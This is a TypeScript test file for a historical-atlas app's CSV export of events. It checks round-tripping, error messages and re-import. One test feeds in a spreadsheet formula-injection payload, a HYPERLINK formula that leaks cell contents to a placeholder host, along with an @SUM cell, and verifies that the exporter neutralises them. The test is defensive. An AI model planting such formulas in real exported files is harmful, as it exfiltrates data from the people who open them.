import { describe, expect, it } from 'vitest';
import { readGeodata } from '../../../scripts/data/read-geodata';
import { validateGeodata } from '../../../scripts/data/validate';
import { parseCsv } from '$lib/import/formats/csv';
import { importTable, previewTable, readTable } from '$lib/import/run-import';
import type { AtlasEvent } from '$lib/model/atlas-data';
import { CSV_COLUMNS, eventsToCsv, readEventRow } from './csv';
import { isFormula } from './neutralise';

const { data } = validateGeodata(readGeodata());
const enc = (s: string) => new TextEncoder().encode(s);
const snakeCase = (k: string) => k.replace(/[A-Z]/g, (c) => `_${c.toLowerCase()}`);
/** An event without its screen offsets, which the exports leave out. */
const withoutOffsets = ({ dx: _dx, dy: _dy, ...e }: AtlasEvent) => e;

describe('eventsToCsv', () => {
  const csv = eventsToCsv(data.events);
  const { header, rows } = parseCsv(csv);

  it('has a column for every field of the events (but their screen offsets)', () => {
    expect(header).toEqual([...CSV_COLUMNS]);
    const fields = new Set(data.events.flatMap((e) => Object.keys(e)));
    const covered = new Set<string>([...CSV_COLUMNS, 'dx', 'dy', 'start', 'end']);
    expect([...fields].map(snakeCase).filter((f) => !covered.has(f))).toEqual([]);
  });

  it('reads every real event back through the import parser, field for field', () => {
    expect(data.events.length).toBeGreaterThan(200);
    expect(rows).toHaveLength(data.events.length);
    for (const [i, row] of rows.entries()) {
      const back = readEventRow(header, row);
      expect(back.problems, data.events[i].id).toEqual([]);
      expect(withoutOffsets(back.event!)).toStrictEqual(
        JSON.parse(JSON.stringify(withoutOffsets(data.events[i])))
      );
    }
  });

  it('writes the date as written, its calendar and precision, lists in their short forms', () => {
    const at = (id: string) => {
      const r = rows[data.events.findIndex((e) => e.id === id)];
      return Object.fromEntries(header.map((h, i) => [h, r[i]]));
    };
    const feb = at('february-revolution-petrograd-1917');
    expect([feb.date, feb.calendar, feb.precision, feb.start_ns, feb.end_ns]).toEqual([
      '1917-02-23/1917-03-03',
      'julian',
      'day',
      '1917-03-08',
      '1917-03-16'
    ]);
    const withToll = data.events.find(
      (e) => e.casualties.length && e.casualties.every((c) => !c.note && !c.text)
    )!;
    expect(at(withToll.id).casualties).toMatch(/^~?\d+ \S.* \([a-z0-9-]+:\d+\)/);
    const oneLine = data.events.find((e) => e.sources.every((s) => !s.note && !s.date))!;
    expect(at(oneLine.id).sources).toMatch(/^[a-z0-9-]+:\d+( [a-z0-9-]+:\d+)*$/);
  });

  it('leaves no text cell that a spreadsheet would read as a formula', () => {
    const numeric = new Set(['lat', 'lon', 'row']);
    const formulas = rows.flatMap((row) =>
      row.filter((cell, i) => !numeric.has(header[i]) && isFormula(cell))
    );
    expect(formulas).toEqual([]);
  });

  it('neutralises hostile text and keeps numbers as numbers', () => {
    const e: AtlasEvent = {
      ...data.events[0],
      title: '=HYPERLINK("http://x?"&A1,"y")',
      summary: '- a list',
      actors: ['-', '@SUM(1+1)'],
      lon: -3.5
    };
    const out = eventsToCsv([e]);
    expect(out).toContain(`"'=HYPERLINK(""http://x?""&A1,""y"")"`);
    expect(out).toContain(`"'- a list"`);
    expect(out).toContain(`"'- | @SUM(1+1)"`);
    expect(out).toContain(',-3.5,');
    const { header, rows } = parseCsv(out);
    expect(withoutOffsets(readEventRow(header, rows[0]).event!)).toEqual(withoutOffsets(e));
  });

  it('names the field of a row that cannot be read', () => {
    const row = [...rows[0]];
    row[header.indexOf('calendar')] = 'old';
    row[header.indexOf('casualties')] = 'many';
    row[header.indexOf('lat')] = 'north';
    expect(readEventRow(header, row).problems).toEqual([
      { field: 'calendar', message: '"old" is not julian or gregorian' },
      { field: 'casualties', message: '"many" is not a toll like "12 killed (source:line)"' },
      { field: 'lat', message: '"north" is not a number' }
    ]);
  });

  it('keeps an imported event’s file and row, and imports again with the current mapping', () => {
    const csv =
      'date,lat,lon,type,title\n09.01.1905,59.94,-30.31,repression,"Bloody Sunday, St Petersburg"\n';
    const first = importTable(
      readTable(enc(csv), 'a.csv'),
      { ...previewTable(enc(csv), 'a.csv').mapping, calendar: 'julian' },
      [],
      'a',
      'a.csv'
    );
    const out = eventsToCsv(first.events);
    const parsed = parseCsv(out);
    const cell = (c: string) => parsed.rows[0][parsed.header.indexOf(c)];
    expect([cell('file'), cell('row'), cell('sources'), cell('lon')]).toEqual([
      'a.csv',
      '2',
      '',
      '-30.31'
    ]);
    expect(readEventRow(parsed.header, parsed.rows[0]).event).toEqual(first.events[0]);
    const again = importTable(
      readTable(enc(out), 'b.csv'),
      previewTable(enc(out), 'b.csv').mapping,
      [],
      'b',
      'b.csv'
    );
    expect(again.problems).toEqual([]);
    expect(again.events.map((e) => [e.start, e.end, e.title, e.type, e.lat, e.lon])).toEqual(
      first.events.map((e) => [e.start, e.end, e.title, e.type, e.lat, e.lon])
    );
  });
});
